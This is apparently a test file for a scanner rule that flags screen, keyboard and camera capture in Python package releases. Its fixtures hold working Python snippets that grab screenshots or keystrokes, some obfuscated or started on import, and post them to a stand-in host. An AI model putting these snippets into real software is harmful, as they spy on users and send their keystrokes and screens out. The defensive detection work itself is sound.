import { screenOrKeyCapture } from '../../src/rules/screen-or-key-capture.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const updated = (source: string) => ({ base: wheel(), head: init(source) });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const POST = 'requests.post("https://a.example.invalid", ';
const SHOT = `import requests\nfrom PIL import ImageGrab\nImageGrab.grab().save("/tmp/x.png")\n${POST}files={"f": open("/tmp/x.png", "rb")})\n`;

releaseTest(screenOrKeyCapture, {
  flags: [
    { name: 'a picture of the screen, by a file', given: updated(SHOT), level: 'block', says: 'PIL.ImageGrab.grab' },
    { name: 'a picture of the screen, when called', given: updated(inFunction(SHOT)), level: 'block' },
    {
      name: 'a picture in memory, by an alias',
      given: updated(
        `import io, requests\nfrom PIL import ImageGrab as I\nb = io.BytesIO()\nI.grab().save(b, "PNG")\n${POST}data=b.getvalue())\n`,
      ),
      level: 'block',
    },
    {
      name: 'mss, through a helper',
      given: updated(
        `import mss, requests\ndef shot():\n    with mss.mss() as s:\n        s.shot(output="a.png")\n    return open("a.png", "rb").read()\n${POST}data=shot())\n`,
      ),
      level: 'block',
    },
    {
      name: 'reached by names put together',
      given: updated(
        `import os, requests, tempfile\np = os.path.join(tempfile.gettempdir(), "s.png")\ngetattr(__import__("pyauto" + "gui"), "screen" + "shot")(p)\n${POST}files={"f": open(p, "rb")})\n`,
      ),
      level: 'block',
    },
    {
      name: 'a command',
      given: updated(
        `import os, requests\nos.system("screencapture -x /tmp/o.png")\n${POST}files={"f": open("/tmp/o.png", "rb")})\n`,
      ),
      level: 'block',
      says: 'screencapture',
    },
    {
      name: 'keys, by a callback that sends',
      given: updated(
        `import requests\nfrom pynput import keyboard\ndef on_press(key):\n    ${POST}json={"k": str(key)})\nkeyboard.Listener(on_press=on_press).start()\n`,
      ),
      level: 'block',
    },
    {
      name: 'keys, gathered in a class',
      given: updated(
        `import requests, threading\nfrom pynput.keyboard import Listener\nclass K:\n    def __init__(self):\n        self.log = ""\n    def press(self, key):\n        self.log += str(key)\n    def report(self):\n        ${POST}data=self.log)\n        threading.Timer(60, self.report).start()\n    def run(self):\n        self.report()\n        Listener(on_press=self.press).start()\nK().run()\n`,
      ),
      level: 'block',
    },
    {
      name: 'keys, asked for by ctypes, on import',
      given: updated(
        'import ctypes, threading\nheld = []\ndef loop():\n    while True:\n        for code in range(8, 190):\n            if ctypes.windll.user32.GetAsyncKeyState(code) & 1:\n                held.append(code)\nthreading.Thread(target=loop).start()\n',
      ),
      level: 'block',
    },
    {
      name: 'keys put in a queue',
      given: updated(
        `import queue, keyboard, requests\nq = queue.Queue()\ndef start():\n    keyboard.on_press(q.put)\ndef drain():\n    ${POST}data=q.get())\n`,
      ),
      level: 'block',
    },
    {
      name: 'keys beside the network, the way between unseen',
      given: updated(
        `import keyboard, requests\nfrom demo.store import keep, kept\ndef start():\n    keyboard.on_press(keep)\ndef drain():\n    ${POST}data=kept())\n`,
      ),
      level: 'warn',
      says: 'the same file uses the network',
    },
    {
      name: 'the camera',
      given: updated(
        `import cv2, requests\nok, frame = cv2.VideoCapture(0).read()\ncv2.imwrite("/tmp/f.jpg", frame)\n${POST}files={"f": open("/tmp/f.jpg", "rb")})\n`,
      ),
      level: 'block',
    },
    {
      name: 'the camera, opened on import',
      given: updated('import cv2\ncamera = cv2.VideoCapture(0)\n'),
      level: 'warn',
    },
    {
      name: 'the screen, in a first release, on import',
      given: { head: init('import pyautogui\npyautogui.screenshot("a.png")\n') },
      level: 'warn',
    },
    { name: 'sent, in a first release', given: { head: init(SHOT) }, level: 'block' },
    {
      name: 'in tests',
      given: {
        base: wheel(),
        head: wheel({ 'tests/test_a.py': `import pyautogui, requests\n${POST}data=pyautogui.screenshot())\n` }),
      },
      level: 'note',
    },
  ],
  allows: [
    {
      name: 'a library for screenshots',
      given: updated(
        'import ctypes\nclass MSS:\n    def grab(self, monitor):\n        return ctypes.windll.gdi32.BitBlt(0, 0, 0, 1, 1, 0, 0, 0, 0x00CC0020)\n',
      ),
      atMost: 'note',
    },
    {
      name: 'a test tool that keeps a screenshot',
      given: updated('import pyautogui\ndef on_failure(path):\n    pyautogui.screenshot(path)\n'),
      atMost: 'note',
    },
    { name: 'a hotkey', given: updated('import keyboard\ndef bind(f):\n    keyboard.add_hotkey("ctrl+q", f)\n') },
    {
      name: 'a film read from a file',
      given: updated(
        'import cv2\ndef frames(path):\n    return cv2.VideoCapture(path)\nclip = cv2.VideoCapture("intro.mp4")\n',
      ),
    },
    {
      name: 'a sound that is played',
      given: updated(
        'import pyaudio\ndef play(data):\n    s = pyaudio.PyAudio().open(format=8, channels=1, rate=44100, output=True)\n    s.write(data)\n',
      ),
    },
    {
      name: 'speech that is recorded when called',
      given: updated(
        'import sounddevice as sd\ndef record(seconds):\n    return sd.rec(int(seconds * 44100), samplerate=44100)\n',
      ),
      atMost: 'note',
    },
    {
      name: 'a picture that is uploaded',
      given: updated(
        'import requests\nfrom PIL import Image\ndef upload(path, url):\n    Image.open(path).save("/tmp/small.png")\n    requests.post(url, files={"f": open("/tmp/small.png", "rb")})\n',
      ),
    },
    {
      name: 'a keyboard of a chat',
      given: updated(
        'from telegram import ReplyKeyboardMarkup\ndef keyboard(rows):\n    return ReplyKeyboardMarkup(rows)\n',
      ),
    },
    { name: 'what the base did too', given: { base: init(SHOT), head: init(`V = 2\n${SHOT}`) } },
  ],
});
